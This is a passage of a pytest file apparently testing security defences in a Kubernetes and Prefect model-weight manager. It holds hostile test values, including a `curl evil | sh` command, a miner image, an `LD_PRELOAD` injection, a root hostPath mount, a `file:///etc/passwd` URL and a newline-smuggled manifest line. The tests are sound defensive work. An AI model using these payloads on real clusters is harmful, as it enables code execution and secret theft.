        cluster.pods[("team-a", "two__parts")] = [("download-two--parts-gpu-a1", "Running")]  # as its job labels it
        assert live_pods(target, [], model="two--parts") == ["team-a/download-two--parts-gpu-a1"]
        assert live_pods(target, [], model="two-parts") == []  # another model
    finally:
        cluster.stop()


AS_NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def _code_for_nobody() -> Path:
    """A folder of its own holding a copy of this tree's `weightkeeper` package that nobody (uid 65534) can read."""
    import weightkeeper

    code = Path(tempfile.mkdtemp(prefix="wk-job-code-", dir="/var/tmp"))
    shutil.copytree(Path(weightkeeper.__file__).parent, code / "weightkeeper", ignore=shutil.ignore_patterns("*.pyc"))
    for folder, _, files in os.walk(code):
        os.chmod(folder, 0o755)
        for name in files:
            os.chmod(os.path.join(folder, name), 0o644)
    return code


@pytest.mark.parametrize("planted", ["package-in-the-working-directory", "pth-in-the-user-site"])
def test_the_jobs_command_runs_no_code_its_owner_planted(planted):
    """A job runs as the model's owner, who writes on the volume. With an image whose working directory or HOME is
    there, the owner plants a `weightkeeper` package where `python -m` looks first, or a `.pth` file in their user
    site-packages: the job would run their code before it is undumpable, with its secrets. The pool's command
    (here with the image's own Python, no venv) runs weightkeeper's job instead, as far as Prefect's engine."""
    variables = job_variables(HOST, model="m", owner_name="nobody", owner_uid=65534, needs_token=False)
    python, *args = render(HOST, variables)["spec"]["template"]["spec"]["containers"][0]["args"]
    code = _code_for_nobody()
    owner, ran = code / "owner", code / "owner" / "ran"  # on the volume: the working directory, or HOME
    plant = f"open({str(ran)!r}, 'w').close()"
    if planted == "package-in-the-working-directory":
        (owner / "weightkeeper").mkdir(parents=True)
        (owner / "weightkeeper" / "__init__.py").write_text(plant)
    else:
        site = owner / ".local" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
        site.mkdir(parents=True)
        (site / "planted.pth").write_text(f"import os; {plant}\n")
    for folder, _, _ in os.walk(owner):
        os.chown(folder, 65534, 65534)
    packages = next(p for p in sys.path if p.endswith("site-packages"))  # prefect and the rest, no .pth run
    env = {"PATH": os.environ["PATH"], "HOME": str(owner), "PREFECT_HOME": str(owner / ".prefect"),
           "PYTHONPATH": os.pathsep.join([str(code), packages])}
    try:
        def job(command: list[str]) -> subprocess.CompletedProcess:
            return subprocess.run([*AS_NOBODY, sys._base_executable, *command], cwd=owner, env=env,
                                  capture_output=True, text=True, timeout=120)

        job(["-m", "weightkeeper.job"])
        assert ran.exists()  # the attack works on a plain `python -m`
        ran.unlink()
        done = job(args)
        assert python == "python" and not ran.exists()
        assert done.returncode == 1 and "Invalid flow run id" in done.stdout + done.stderr, done.stderr[-2000:]
    finally:
        shutil.rmtree(code)


def test_a_jobs_secrets_are_not_readable_by_its_owners_other_processes():
    """A job runs as the model's owner (here: nobody) with the Prefect credential and the namespace's token in its
    environment. The owner's shell on the node, the same uid, tries to read them from `/proc`: refused, also from
    the job's real command (`python -m weightkeeper.job`, the pool's template) while it runs Prefect's engine."""
    as_owner = [*AS_NOBODY, sys.executable, "-c"]
    code = _code_for_nobody()
    env = {**os.environ, "PYTHONPATH": str(code), "WEIGHTKEEPER_TOKEN_ENV": "HF_TOKEN", "HF_TOKEN": "hf_secret",
           "PREFECT_API_AUTH_STRING": "weightkeeper:prefect-secret"}
    job = subprocess.Popen([*as_owner, "import sys, weightkeeper; assert weightkeeper.__file__.startswith(sys.argv[1]); "
                            "print('up', flush=True); sys.stdin.read()", str(code)], stderr=subprocess.PIPE, cwd=code,
                           env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert job.stdout.readline() == "up\n", job.stderr.read()
        for what in ("environ", "mem"):
            shell = subprocess.run([*as_owner, f"print(open('/proc/{job.pid}/{what}', 'rb').read(4096))"],
                                   capture_output=True, text=True)
            assert shell.returncode != 0 and "PermissionError" in shell.stderr, (what, shell.stdout[:200])
        outside = subprocess.Popen([*as_owner, "import sys, weightkeeper; print('up', flush=True); sys.stdin.read()"],
                                   env={k: v for k, v in env.items() if k != "WEIGHTKEEPER_TOKEN_ENV"},
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=code)
        try:  # not a job: the owner's own processes stay theirs
            assert outside.stdout.readline() == "up\n"
            shell = subprocess.run([*as_owner, f"open('/proc/{outside.pid}/environ', 'rb').read()"])
            assert shell.returncode == 0
        finally:
            outside.communicate("")
        home = code / "home"  # the owner's: Prefect writes its settings there
        home.mkdir(mode=0o777)
        home.chmod(0o777)
        with socket.socket() as api:  # a Prefect API that never answers: the job waits for its flow run
            api.bind(("127.0.0.1", 0))
            api.listen()
            api.settimeout(120)
            command = subprocess.Popen([*as_owner[:-1], "-m", "weightkeeper.job"], cwd=code, env={
                **env, "HOME": str(home), "PREFECT_HOME": str(home / ".prefect"),
                "PREFECT_API_URL": f"http://127.0.0.1:{api.getsockname()[1]}/api",
                "PREFECT__FLOW_RUN_ID": str(uuid.uuid4())}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            try:
                asked, _ = api.accept()  # the job's command is running Prefect's engine: its secrets are in it
                shell = subprocess.run([*as_owner, f"open('/proc/{command.pid}/environ', 'rb').read()"],
                                       capture_output=True, text=True)
                assert shell.returncode != 0 and "PermissionError" in shell.stderr, shell.stdout[:200]
                asked.close()
            finally:
                command.kill()
                command.wait()
    finally:
        job.communicate("")
        shutil.rmtree(code)
    command = subprocess.run([sys.executable, "-m", "weightkeeper.job"], capture_output=True, text=True, timeout=120,
                             env={k: v for k, v in env.items() if k not in ("PYTHONPATH", "PREFECT__FLOW_RUN_ID")})
    assert command.returncode == 1 and "Invalid flow run id" in command.stdout + command.stderr


def test_worker_manifests_from_the_cli(tmp_path):
    import yaml

    config = tmp_path / "config.toml"
    config.write_text('[[workspaces]]\nname = "gpu"\nvolume = "/mnt/gpu"\nwork_pool = "east-gpu"\n'
                      '[workspaces.kubernetes]\nnamespace = "team-a"\nimage = "img:1"\nvolume_claim = "models"\n')
    run = [sys.executable, "-m", "weightkeeper.cli", "--config", str(config), "kubernetes", "worker-manifests"]
    out = subprocess.run([*run, "gpu", "--api-url", "http://prefect.svc/api"], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    docs = list(yaml.safe_load_all(out.stdout))
    assert [d["kind"] for d in docs] == ["ServiceAccount", "ServiceAccount", "Role", "RoleBinding", "Deployment"]
    assert docs[-1]["spec"]["template"]["spec"]["containers"][0]["image"] == "img:1"
    bad = subprocess.run([*run, "nope", "--api-url", "http://prefect.svc/api"], capture_output=True, text=True)
    assert bad.returncode == 2 and "has no [workspaces.kubernetes] table" in bad.stderr
    for url in ("x", "file:///etc/passwd", "http://prefect.svc/api\n  - name: EVIL", "http://a b/api",
                "http://admin:hunter2@prefect.svc/api"):
        bad = subprocess.run([*run, "gpu", "--api-url", url], capture_output=True, text=True)
        assert bad.returncode == 2 and "not a Prefect API URL" in bad.stderr and not bad.stdout, url
        assert "hunter2" not in bad.stderr and "Traceback" not in bad.stderr


def test_a_kubernetes_workspace_run_carries_the_owner_the_volume_and_the_token_secret(wk, hub):
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterName
    from prefect.states import Cancelled

    from weightkeeper.flows.jobs import run_path_jobs
    from test_lifecycle import in_thread, wait_until
    from weightkeeper.deployments import declared, ensure_work_pools

    wk.config.write_text(textwrap.dedent(f"""
        home = "{wk.root}"
        registry_url = "{wk._registry_url}"
        hf_endpoint = "{hub.url}"
        [[workspaces]]
        name = "gpu"
        cluster = "east"
        volume = "{wk.volumes['team-a']}"
        work_pool = "kube-runs-gpu"
        [workspaces.kubernetes]
        namespace = "team-a"
        image = "registry.local/weightkeeper:0.1"
        volume_claim = "models-a"
        token_secret = "hf-token"
    """))
    settings = wk.settings
    ensure_work_pools(settings)
    for deployment, pool in declared(settings):
        if pool == "kube-runs-gpu":
            deployment.apply(work_pool_name=pool)  # no worker: the run stays Scheduled, as in a busy cluster
    model = wk.declare("kube-runs", "hf://acme/whatever", token_block="hf-token-block", owner_uid=4242)
    jobs = in_thread(run_path_jobs, "download-to-path", "kube-runs", model.local_paths)

    def created():
        with get_client(sync_client=True) as client:
            return client.read_flow_runs(flow_run_filter=FlowRunFilter(name=FlowRunFilterName(
                any_=["download-kube-runs-gpu"])))

    (run,) = wait_until(created, what="the download run")
    variables = run.job_variables
    assert (variables["run_as_user"], variables["run_as_group"]) == (4242, 4242)
    assert set(variables) == {"run_as_user", "run_as_group", "labels"}  # the rest is the pool's template
    assert "hf-token-block" not in str(variables)  # the Prefect block's name, let alone the token, is not passed
    with get_client(sync_client=True) as client:
        pod = client.read_work_pool("kube-runs-gpu").base_job_template["job_configuration"]["job_manifest"]["spec"][
            "template"]["spec"]
    assert pod["volumes"][0] == {"name": "workspace-volume", "persistentVolumeClaim": {"claimName": "models-a"}}
    assert pod["containers"][0]["volumeMounts"][0]["mountPath"] == str(wk.volumes["team-a"])
    assert pod["containers"][0]["envFrom"] == [{"secretRef": {"name": "hf-token", "optional": True}}]
    with get_client(sync_client=True) as client:
        client.set_flow_run_state(run.id, Cancelled(), force=True)
    jobs.join(30)
    (failure,) = jobs.result["value"]
    assert not failure.crashed and "Cancelled" in failure.message  # cancelled, not crashed: no failover


EVIL = {"image": "evil/miner:latest", "command": "sh -c 'curl evil | sh'", "namespace": "kube-system",
        "service_account_name": "cluster-admin", "volume": {"name": "workspace-volume", "hostPath": {"path": "/"}},
        "volume_mount_path": "/usr/lib", "env": {"PREFECT_API_URL": "http://evil/api", "LD_PRELOAD": "/evil.so",
                                                 "WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://evil@evil/wk"},
        "registry_secret": "evil-registry",
        "env_from": [{"secretRef": {"name": "other-team-secret"}}],
        "cluster_config": {"config": {}, "context_name": "x"}}


def test_a_run_cannot_override_the_image_command_volumes_or_namespace_of_its_job(tmp_path):
    """The attacker holds the Prefect credential and creates runs in a Kubernetes pool with job variables of
    their choice. The server refuses them for a deployment; a run created without that check (POST /flow_runs/)
    reaches a real Kubernetes worker, whose Job, sent to the fake Kubernetes API, is the template's."""
    import httpx

    from fakekube import FakeKubernetes
    from weightkeeper.deployments import declared, ensure_work_pools

    config = tmp_path / "config.toml"
    config.write_text('[[workspaces]]\nname = "gpu"\ncluster = "east"\nvolume = "/mnt/gpu"\nwork_pool = "kube-fixed"\n'
                      '[workspaces.kubernetes]\nnamespace = "team-a"\nimage = "registry.local/weightkeeper:0.1"\n'
                      'volume_claim = "models-a"\n')
    settings = load_settings(config)
    ensure_work_pools(settings)
    for deployment, pool in declared(settings):
        if pool == "kube-fixed" and deployment.flow_name == "download-to-path":
            deployment_id = deployment.apply(work_pool_name=pool)
    api = httpx.Client(base_url=os.environ["PREFECT_API_URL"], timeout=30)
    owner, parameters = {"run_as_user": 4242, "run_as_group": 4242}, {"name": "m", "path_id": 1}
    for key, value in EVIL.items():
        refused = api.post(f"/deployments/{deployment_id}/create_flow_run",
                           json={"parameters": parameters, "job_variables": {**owner, key: value}})
        assert refused.status_code == 422 and key in refused.text, (key, refused.text)
    flow_id = api.get(f"/deployments/{deployment_id}").json()["flow_id"]
    run = api.post("/flow_runs/", json={
        "flow_id": flow_id, "deployment_id": str(deployment_id), "work_pool_name": "kube-fixed",
        "name": "attacker-run",
        "job_variables": {**owner, **EVIL}, "parameters": parameters,
        "state": {"type": "SCHEDULED", "state_details": {"scheduled_time": "2000-01-01T00:00:00Z"}}})
    assert run.status_code == 201, run.text
    cluster = FakeKubernetes()
    try:
        worker = subprocess.run(
            [sys.executable, "-m", "prefect", "worker", "start", "--pool", "kube-fixed", "--type", "kubernetes",
             "--run-once"], capture_output=True, text=True, timeout=180,
            env=dict(os.environ, KUBECONFIG=str(cluster.kubeconfig(tmp_path / "kubeconfig")),
                     PREFECT_INTEGRATIONS_KUBERNETES_OBSERVER_ENABLED="false"))
        assert len(cluster.jobs) == 1, worker.stdout + worker.stderr
    finally:
        cluster.stop()
        api.delete(f"/flow_runs/{run.json()['id']}")
    namespace, job = cluster.jobs[0]
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert namespace == job["metadata"]["namespace"] == "team-a"
    assert container["image"] == "registry.local/weightkeeper:0.1"
    assert container["args"] == ["python", "-P", "-s", "-m", "weightkeeper.job"]
    assert pod["serviceAccountName"] == "weightkeeper-jobs"
    assert pod["volumes"][0] == {"name": "workspace-volume", "persistentVolumeClaim": {"claimName": "models-a"}}
    assert container["volumeMounts"][0]["mountPath"] == "/mnt/gpu"
    assert container["envFrom"] == []
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert env["PREFECT_API_URL"] == os.environ["PREFECT_API_URL"] and "LD_PRELOAD" not in env
    (registry,) = [e for e in container["env"] if e["name"] == "WEIGHTKEEPER_REGISTRY_URL"]
    assert registry["valueFrom"]["secretKeyRef"]["name"] == "weightkeeper-registry"
    assert pod["securityContext"]["runAsUser"] == 4242  # what a run does set: its owner
    assert "evil" not in json.dumps(job)


def test_a_model_that_names_any_token_block_never_borrows_the_namespaces_token(wk, hub, tmp_path):
    """A Kubernetes workspace's jobs read its namespace's token Secret for every model that names a token block.
    A user names one of theirs (a token without access to a gated repository): resolving the model proves that
    token on the Hub first (one request) and fails the model, so its job never fetches with the namespace's.
    A model pinned when it was declared proves it all the same. The right token resolves; a model whose workspace
    runs no such job is not asked (its download uses its own)."""
    from prefect import flow
    from prefect.blocks.system import Secret

    from weightkeeper.tasks.snapshot import resolve_revision

    @flow
    def resolving(name: str) -> str:
        state = resolve_revision(name, return_state=True)
        return "resolved" if state.is_completed() else state.message

    token = "hf_NAMESPACEtoken12345"
    hub.add_repo("acme/gated-kube", {"config.json": b"{}", "model.safetensors": b"w" * 4096}, gated=True, token=token)
    Secret(value="hf_MINEtoken1234567890").save("hf-mine", overwrite=True)
    Secret(value=token).save("hf-right", overwrite=True)
    (tmp_path / "gpu").mkdir()
    wk._workspaces = [*wk._workspaces, {"name": "gpu", "volume": str(tmp_path / "gpu"), "work_pool": "kube-gpu"}]
    wk.rewrite(hf_endpoint=hub.url)
    with wk.config.open("a") as config:
        config.write('[workspaces.kubernetes]\nnamespace = "gpu"\nimage = "registry.local/weightkeeper:0.1"\n'
                     'volume_claim = "models"\ntoken_secret = "hf-token"\n')
    wk.declare("borrower", "hf://acme/gated-kube", workspaces=["gpu"], token_block="hf-mine")
    assert "is gated" in resolving("borrower")
    model = wk.registry.get_model("borrower")
    assert model.phase == "Failed" and model.commit is None and "is gated" in model.message
    wk.declare("pinned", "hf://acme/gated-kube", workspaces=["gpu"], token_block="hf-mine", subpath="models/p")
    listed = [{"path": "model.safetensors", "size": 4096, "blobId": "0" * 40, "sha256": "0" * 64, "md5": None}]
    wk.registry.set_snapshot("pinned", "b" * 40, listed, None)  # pinned when declared (a workspace's capacity)
    assert "is gated" in resolving("pinned")
    wk.declare("rightful", "hf://acme/gated-kube", workspaces=["gpu"], token_block="hf-right", subpath="models/r")
    assert resolving("rightful") == "resolved"
    hub.reset_stats()
    wk.declare("elsewhere", "hf://acme/gated-kube", workspaces=["team-a"], token_block="hf-mine")
    assert resolving("elsewhere") == "resolved"
    assert not any("/resolve/" in r.path for r in hub.requests)


def _kube_workspace(wk, hub, tmp_path) -> Path:
    """A Kubernetes workspace `gpu` (its jobs run as their model's owner), whose download runs this test calls."""
    from weightkeeper.runtime import ensure_download_limit

    volume = tmp_path / "gpu"
    volume.mkdir()
    wk._workspaces = [*wk._workspaces, {"name": "gpu", "volume": str(volume), "work_pool": "kube-gpu"}]
    wk.rewrite(hf_endpoint=hub.url)
    with wk.config.open("a") as config:
        config.write('[workspaces.kubernetes]\nnamespace = "gpu"\nimage = "registry.local/weightkeeper:0.1"\n'
                     'volume_claim = "models"\n')
    ensure_download_limit(wk.settings)  # as `weightkeeper serve` or any ensure-model run makes it
    return volume


@contextlib.contextmanager
def as_the_job_of(monkeypatch, uid: int | None) -> Iterator[None]:
    """Stand in for a Kubernetes job's `runAsUser` (no cluster here): this process's uid as weightkeeper reads it
    to name a shared copy's shelf (None: the process's own, as a run here has)."""
    with monkeypatch.context() as patched:
        if uid is not None:
            patched.setattr(os, "geteuid", lambda: uid)
        yield


def test_a_shared_copy_written_by_one_owners_job_never_reaches_another_owners_model(wk, hub, tmp_path, monkeypatch):
    """A Kubernetes job runs as its model's owner, so the shared copy it makes is that owner's to write. The
    attacker (uid 4242) shares a repository, waits for the copy, and rewrites a shard in it, same size: the quick
    check passes. The victim (uid 4343) declares the same repository: its path links to a copy of its own, with
    the Hub's bytes. Two models of one owner still share one copy, downloaded once. A run in this process (the
    service's, not the owner's job) links to the service's own copy, which no owner can write."""
    from weightkeeper.flows.paths import download_to_path

    volume = _kube_workspace(wk, hub, tmp_path)
    files = tiny_files("owners")
    commit = hub.add_repo("acme/owners", files)

    def ensured(name: str, uid: int, subpath: str, job: bool = True) -> str:
        model = wk.declare(name, "hf://acme/owners", workspaces=["gpu"], download_policy="reuse-if-exists",
                           owner_uid=uid, subpath=subpath)
        with as_the_job_of(monkeypatch, uid if job else None):
            download_to_path(name, model.local_paths[0].id)
        assert wk.registry.get_model(name).local_paths[0].status == "Ready"
        return model.local_paths[0].path

    shard = "model-00001-of-00002.safetensors"
    attacker = ensured("attackers", 4242, "models/a")
    copy = volume / "models" / "_artifacts.4242" / "acme--owners" / commit
    assert Path(attacker).resolve() == copy
    (copy / shard).write_bytes(b"\0" * len(files[shard]))  # the owner of the copy writes in it
    victim = ensured("victims", 4343, "models/v")
    assert Path(victim).resolve() == volume / "models" / "_artifacts.4343" / "acme--owners" / commit
    assert (Path(victim) / shard).read_bytes() == files[shard]
    hub.reset_stats()
    ensured("victims-too", 4343, "models/w")
    assert Path(victim).resolve() == Path(wk.registry.get_model("victims-too").local_paths[0].path).resolve()
    assert hub.get_count("acme/owners") == 0  # the same owner's second model: the copy it has
    here = ensured("victims-here", 4343, "models/h", job=False)
    assert Path(here).resolve() == volume / "models" / "_artifacts" / "acme--owners" / commit


@pytest.mark.parametrize("planted", ["shelf-of-another-uid", "shelf-open-to-all", "repo-dir-open-to-all"])
def test_a_shared_copy_is_never_made_below_a_directory_someone_else_can_write(wk, hub, tmp_path, monkeypatch,
                                                                             planted):
    """The attacker can write in the models root and plants the directory that will hold the victim's shared
    copies (`_artifacts.<uid>`, or the repository's below it) before the victim's first model: owned by the
    attacker, or writable by anyone. Whoever can write there could swap the copy for a link to their own files
    between two verifications, so the victim's download fails, naming it, and writes nothing there."""
    from weightkeeper.flows.paths import download_to_path

    volume = _kube_workspace(wk, hub, tmp_path)
    hub.add_repo("acme/planted-shelf", tiny_files("planted-shelf"))
    shelf = volume / "models" / "_artifacts.4343"
    (shelf / "acme--planted-shelf").mkdir(parents=True)
    if planted == "shelf-of-another-uid":
        os.chown(shelf, 4242, 4242)
    else:
        os.chmod(shelf if planted == "shelf-open-to-all" else shelf / "acme--planted-shelf", 0o777)
    model = wk.declare("victim", "hf://acme/planted-shelf", workspaces=["gpu"], download_policy="reuse-if-exists",
                       owner_uid=4343)
    with as_the_job_of(monkeypatch, 4343), pytest.raises(DownloadError):
        download_to_path("victim", model.local_paths[0].id)
    entry = wk.registry.get_model("victim").local_paths[0]
    assert entry.status == "Failed" and "is not weightkeeper's own or others may write in it" in entry.message
    assert os.listdir(shelf / "acme--planted-shelf") == [] and not os.path.lexists(entry.path)


def test_the_service_repairs_a_copy_an_owners_job_made(wk, hub, tmp_path, monkeypatch):
    """A copy on an owner's shelf is theirs (their job made `_artifacts.<uid>` and what it holds). Reconcile, run
    by the service, still checks and repairs it: the shelf belongs to the uid it names, not to a stranger."""
    from weightkeeper.flows.ensure_model import ensure_model
    from weightkeeper.flows.reconcile import reconcile

    volume = _kube_workspace(wk, hub, tmp_path)
    files = tiny_files("owned-repair")
    commit = hub.add_repo("acme/owned-repair", files)
    wk.rewrite(hf_endpoint=hub.url, verify_interval_seconds=0)
    with wk.config.open("a") as config:
        config.write('[workspaces.kubernetes]\nnamespace = "gpu"\nimage = "registry.local/weightkeeper:0.1"\n'
                     'volume_claim = "models"\n')
    wk.declare("owned", "hf://acme/owned-repair", workspaces=["gpu"], download_policy="reuse-if-exists",
               owner_uid=4343)
    with as_the_job_of(monkeypatch, 4343):
        assert ensure_model("owned") == "Ready"  # its path's job, here in this process
    shelf = volume / "models" / "_artifacts.4343"
    for made in (shelf, *shelf.rglob("*")):  # as the job, running as 4343, made them
        os.chown(made, 4343, 4343, follow_symlinks=False)
    shard = shelf / "acme--owned-repair" / commit / "model-00001-of-00002.safetensors"
    shard.write_bytes(b"\0" * shard.stat().st_size)
    outcomes = reconcile()
    assert outcomes[str(shard.parent)] == "repaired", dict(outcomes)
    assert shard.read_bytes() == files[shard.name] and wk.registry.get_model("owned").phase == "Ready"


def test_a_switch_proves_the_models_own_token_on_the_new_commit(wk, hub, tmp_path):
    """In a Kubernetes workspace whose jobs read the namespace's token, a tracked model names block B, whose token
    reads commit A. The repository moves on and only the namespace's token reads it now: the switch's job would
    fetch it with that token, so the head check proves B's on the new commit first, and holds the switch with the
    refusal as the model's message (no pending commit; the link stays on A)."""
    from prefect.blocks.system import Secret

    from weightkeeper.flows.ensure_model import ensure_model

    files = {"config.json": b"{}", "model.safetensors": b"w" * 4096}
    a = hub.add_repo("acme/gated-switch", files, gated=True, token="hf_BLOCKBtoken1234567890")
    Secret(value="hf_BLOCKBtoken1234567890").save("hf-block-b", overwrite=True)
    (tmp_path / "gpu").mkdir()
    wk._workspaces = [*wk._workspaces, {"name": "gpu", "volume": str(tmp_path / "gpu"), "work_pool": "kube-gpu"}]
    wk.rewrite(hf_endpoint=hub.url, track_interval_seconds=0)
    with wk.config.open("a") as config:
        config.write('[workspaces.kubernetes]\nnamespace = "gpu"\nimage = "registry.local/weightkeeper:0.1"\n'
                     'volume_claim = "models"\ntoken_secret = "hf-token"\n')
    wk.declare("gated-switch", "hf://acme/gated-switch", workspaces=["gpu"], token_block="hf-block-b", track=True)
    assert ensure_model("gated-switch") == "Ready"
    path = wk.registry.get_model("gated-switch").local_paths[0].path
    b = hub.add_repo("acme/gated-switch", {**files, "config.json": b'{"v": 2}'}, gated=True,
                     token="hf_NAMESPACEtoken12345")
    hub.reset_stats()
    assert ensure_model("gated-switch") == "Ready"
    model = wk.registry.get_model("gated-switch")
    assert model.pending_commit is None and model.commit == a and os.readlink(path).endswith(a)
    assert model.message.startswith(f"update to {b} held: ") and "is gated" in model.message, model.message
    assert [r.method for r in hub.requests if "/resolve/" in r.path] == ["HEAD"]  # the proof; nothing fetched
